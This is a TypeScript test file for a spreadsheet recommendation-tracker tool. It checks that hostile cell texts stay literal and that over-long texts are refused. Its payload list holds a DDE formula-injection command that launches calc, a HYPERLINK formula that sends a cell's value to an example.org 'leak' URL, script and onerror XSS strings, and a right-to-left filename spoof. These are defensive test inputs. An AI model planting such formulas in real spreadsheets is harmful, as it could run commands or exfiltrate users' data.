/**
 * Hostile texts: formula payloads, HTML and script, right-to-left and mixed
 * scripts, and texts at Excel's 32,767-character limit, through adopt,
 * template and validate. They stay literal text, whole, in every round trip;
 * a text beyond the limit is refused in words, before anything is written.
 */
import ExcelJS from "exceljs";
import { loadWorkbook, readTracker } from "../../src/files/xlsx";
import { legacyBytes, sampleRecords, seededRandom, trackerBytes } from "../support/xlsx";
import { expectOneLineRefusal, rectrack, scratch, Scratch } from "./support";
import { readFileSync } from "fs";

const LONGEST = 32767;

const PAYLOADS = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://example.org/?leak="&A1,"Click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "<script>alert('x')</script>",
  '<img src=x onerror="alert(1)"> & <b>bold</b> &amp; &lt;',
  "يجب على وزارة العدل تركيب جرس استدعاء في كل زنزانة",
  "על משרד המשפטים להתקין פעמון קריאה בכל תא",
  "Mixed: العربية עברית English 中文 Ελληνικά Русский 👮 e\u0301",
  "\u202Egnp.exe\u202C and \u200F\u200E marks",
  "Line one\nLine two\r\nLine three",
  "x".repeat(LONGEST - 10) + "0123456789",
];

/**
 * What adopt keeps of a hand-made sheet's text: surrounding whitespace is
 * trimmed (as for every field), and line ends arrive as "\n" because XML
 * reading turns "\r\n" into "\n" in the sheet itself.
 */
const kept = (text: string) => text.trim().replace(/\r\n/g, "\n");
/** Long texts compared by length and ending, so a failure stays readable. */
const shown = (texts: (string | number | boolean | null | undefined)[]) =>
  texts.map((t) =>
    typeof t === "string" && t.length > 200
      ? `${t.length} characters ending ${t.slice(-12)}`
      : JSON.stringify(t)
  );

let files: Scratch;
beforeAll(() => {
  files = scratch("hostile-text");
});
afterAll(() => files.remove());

/** The Recommendations sheet's cells in one column: each must be a plain string, never a formula. */
async function recommendationCells(path: string, header: string): Promise<ExcelJS.Cell[]> {
  // loadWorkbook drops the whole-column validation rules exceljs would expand cell by cell.
  const { workbook } = await loadWorkbook(readFileSync(path), path);
  const sheet = workbook.getWorksheet("Recommendations");
  if (!sheet) throw new Error(`${path} has no Recommendations sheet`);
  let column = 0;
  sheet.getRow(1).eachCell((cell, c) => {
    if (cell.value === header) column = c;
  });
  if (column === 0) throw new Error(`the Recommendations sheet has no "${header}" column`);
  const cells: ExcelJS.Cell[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) cells.push(sheet.getCell(r, column));
  return cells;
}

describe("texts that look like formulas, markup or another script", () => {
  it("stay literal and whole through adopt, then validate", async () => {
    const input = files.put(
      "payloads-legacy.xlsx",
      await legacyBytes([
        {
          name: "Follow-up",
          rows: [
            ["Ref", "Date", "Recommendation", "Status", "Comments"],
            ...PAYLOADS.map((text, i) => [i + 1, "2024-03-12", text, "In progress", text]),
          ],
        },
      ])
    );
    const original = readFileSync(input);
    const out = `${files.dir}/payloads-tracker.xlsx`;
    const adopt = await rectrack(["adopt", input, out, "--json", "--today", "2026-03-01"]);
    expect(adopt.err).toBe("");
    expect(adopt.code).toBe(0);
    expect(files.unchanged(input, original)).toBe(true);

    const tracker = await readTracker(readFileSync(out), out);
    expect(shown(tracker.rows.map((row) => row.values.text))).toEqual(shown(PAYLOADS.map(kept)));
    expect(shown(tracker.rows.map((row) => row.values.notes ?? row.extra?.Comments))).toEqual(
      shown(PAYLOADS.map(kept))
    );
    const adoptedCells = await recommendationCells(out, "Recommendation");
    expect(adoptedCells).toHaveLength(PAYLOADS.length);
    for (const cell of adoptedCells) {
      expect(cell.formula).toBeUndefined();
      expect(typeof cell.value).toBe("string");
      // Text format, so Excel does not read a retyped "=..." as a formula either.
      if (/^[=+\-@]/.test(String(cell.value))) expect(cell.numFmt).toBe("@");
    }

    const validate = await rectrack(["validate", out, "--json", "--today", "2026-03-01"]);
    expect(validate.err).toBe("");
    const result = JSON.parse(validate.out) as { rows: number; issues: { column?: string }[] };
    expect(result.rows).toBe(PAYLOADS.length);
    expect(result.issues.filter((issue) => issue.column === "text")).toEqual([]);
  });

  it("stay literal and whole in a tracker written from records (the template writer)", async () => {
    const records = sampleRecords(PAYLOADS.length, seededRandom(3)).map((record, i) => ({
      ...record,
      text: PAYLOADS[i],
      place: PAYLOADS[i].slice(0, 200),
      notes: PAYLOADS[i],
    }));
    const path = files.put("payloads-template.xlsx", await trackerBytes(records));
    const tracker = await readTracker(readFileSync(path), path);
    const trimmed = PAYLOADS.map((text) => text.trim());
    expect(shown(tracker.rows.map((row) => row.values.text))).toEqual(shown(trimmed));
    expect(shown(tracker.rows.map((row) => row.values.notes))).toEqual(shown(trimmed));
    // A place is a list value: its spaces and line breaks are collapsed to one space, as when typed.
    expect(tracker.rows.map((row) => row.values.place)).toEqual(
      PAYLOADS.map((p) => p.slice(0, 200).trim().replace(/\s+/g, " "))
    );
    const writtenCells = await recommendationCells(path, "Recommendation");
    expect(writtenCells).toHaveLength(PAYLOADS.length);
    for (const cell of writtenCells) {
      expect(cell.formula).toBeUndefined();
      expect(typeof cell.value).toBe("string");
      // Text format, so Excel does not read a retyped "=..." as a formula either.
      if (/^[=+\-@]/.test(String(cell.value))) expect(cell.numFmt).toBe("@");
    }
    const validate = await rectrack(["validate", path, "--today", "2026-03-01"]);
    expect(validate.err).toBe("");
    expect(validate.out).toContain(`${PAYLOADS.length} recommendations checked`);
  });
});

describe("a text longer than a cell can hold", () => {
  it("is refused by adopt in one line naming where it is, and nothing is written", async () => {
    const input = files.put(
      "too-long-legacy.xlsx",
      await legacyBytes([
        {
          name: "Follow-up",
          rows: [
            ["Ref", "Date", "Recommendation", "Status"],
            [1, "2024-03-12", "Install call bells.", "In progress"],
            [2, "2024-03-12", "y".repeat(LONGEST + 1), "In progress"],
          ],
        },
      ])
    );
    const before = files.names();
    const run = await rectrack(["adopt", input, `${files.dir}/too-long-out.xlsx`]);
    expectOneLineRefusal(
      run,
      /sheet "Follow-up", row 3, column "Recommendation": the text has 32,768 characters, more than the 32,767 an Excel cell can hold/
    );
    // In the user's language too, from the refusal's code.
    const spanish = await rectrack([
      "adopt",
      input,
      `${files.dir}/too-long-out.xlsx`,
      "--lang",
      "es",
    ]);
    expectOneLineRefusal(
      spanish,
      /hoja «Follow-up», fila 3, columna «Recommendation»: el texto tiene 32768 caracteres, más de los 32767 que caben/
    );
    expect(files.names()).toEqual(before);
  });

  it("is never written by the tracker writer, which would make Excel cut it", async () => {
    const records = sampleRecords(2, seededRandom(4));
    records[1].notes = "z".repeat(LONGEST + 1);
    await expect(trackerBytes(records)).rejects.toThrow(
      /cell [A-Z]+3: the text has 32,768 characters, more than the 32,767 an Excel cell can hold/
    );
  });
});
